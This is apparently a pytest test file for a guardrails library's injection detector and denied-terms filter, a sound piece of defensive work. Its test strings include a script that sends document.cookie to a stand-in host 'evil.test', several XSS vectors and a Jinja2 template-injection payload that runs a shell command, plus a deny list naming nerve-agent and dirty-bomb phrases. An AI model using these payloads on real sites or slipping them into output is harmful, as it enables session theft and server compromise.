"""Code/markup injection (YARA, compiled once) and denied topics."""

from __future__ import annotations

import pytest

from guardrails.policy import PACKAGED_POLICIES
from guardrails.rails.code import CodeInjectionRail, compile_rules
from guardrails.rails.terms import DeniedTermsRail

TUNED = CodeInjectionRail(compile_rules(["markup", "ssti"], directory=PACKAGED_POLICIES / "default" / "yara"))


@pytest.mark.parametrize(
    "text",
    [
        "<script>fetch('https://evil.test/?c='+document.cookie)</script>",
        "Click [here](javascript:alert(document.domain))",
        "<a href=\"javascript:void(0)\">x</a>",
        "<img src=x onerror=alert(1)>",
        "<iframe src='https://evil.test'></iframe>",
        "![s](https://tracker.evil.test/p.gif?user=42)",
        "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
        "{{ config }}",
    ],
)
def test_tuned_rules_flag_payloads(text):
    assert TUNED.scan(text)


@pytest.mark.parametrize(
    "text",
    [
        "In Jinja2 you loop with `{% for item in items %}` ... `{% endfor %}`.",
        "Never build <script> tags from strings.",
        "ALTER TABLE customers ADD COLUMN address TEXT; then backfill it.",
        "Use `import os` and `os.environ['KEY']`.",
        "Here is a link: [guide](https://example.com/start) and ![diagram](https://example.com/a.png)",
    ],
)
def test_tuned_rules_pass_explanations(text):
    assert TUNED.scan(text) == []


def test_nemo_stock_rules_compile_and_offsets_are_characters():
    stock = CodeInjectionRail(compile_rules(["xss", "template"]), action="mask")
    text = "héllo <script>alert(1)</script>"
    findings = stock.scan(text)
    assert findings and all(f.action == "mask" and f.replacement == "" for f in findings)
    assert any(text[f.start : f.end].startswith("<script>") for f in findings)


def test_inline_rules_and_errors():
    rules = compile_rules(["mine"], inline={"mine": 'rule r { strings: $a = "evil" condition: $a }'})
    assert CodeInjectionRail(rules).scan("so evil")[0].kind == "mine.r"
    with pytest.raises(ValueError, match="not found"):
        compile_rules(["nope"])
    with pytest.raises(ValueError, match="compile"):
        compile_rules(["bad"], inline={"bad": "rule {"})


def test_denied_terms_whole_words_any_case_and_spacing():
    rail = DeniedTermsRail({"weapons": ["synthesize sarin", "dirty bomb"], "codenames": ["Bluebird"]})
    found = rail.scan("How to SYNTHESIZE   sarin? Also project bluebird.")
    assert [(f.kind, f.action) for f in found] == [("weapons", "block"), ("codenames", "block")]
    assert rail.scan("bluebirds sing; the sarin attack of 1995") == []
    assert DeniedTermsRail({}).scan("anything") == []
    masked = DeniedTermsRail({"t": ["secret project"]}, action="mask").scan("the secret project")
    assert masked[0].replacement == "[REDACTED]"
